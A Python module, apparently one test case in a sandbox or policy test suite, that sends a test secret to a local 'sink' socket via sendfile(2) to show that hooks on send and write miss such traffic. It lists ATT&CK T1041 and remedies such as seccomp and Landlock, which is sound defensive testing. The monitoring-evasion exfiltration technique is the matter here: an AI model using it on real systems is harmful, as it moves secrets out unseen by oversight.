# SPDX-License-Identifier: MIT
"""Goal:  bytes reach the attacker's host.
Means: sendfile(2) from a file to a socket. The bytes never pass through the program, and a rule, or
       a hook, for send and write sees nothing.
"""

import os
import socket
import tempfile

from attack import DONE, attempting, denied


def run(brief):
    attempting()
    try:
        with tempfile.TemporaryFile() as file:
            file.write(brief.secret.encode())
            file.flush()
            with socket.create_connection(("127.0.0.1", brief.sink), timeout=3) as sink:
                os.sendfile(sink.fileno(), file.fileno(), 0, len(brief.secret))
    except OSError as why:
        return denied("sendfile", why)
    return DONE


ATTACK = {
    "effect": "bytes reach the attacker's host",
    "means": "sendfile(2) to a socket: no send, no write",
    "oracle": "sink",
    "id": "NET-11",
    "attack_id": "T1041, CWE-184",
    "remedy": "seccomp without socket(2); Landlock without connecting; a network namespace",
    "refs": ["sendfile(2)"],
    "run": run,
}
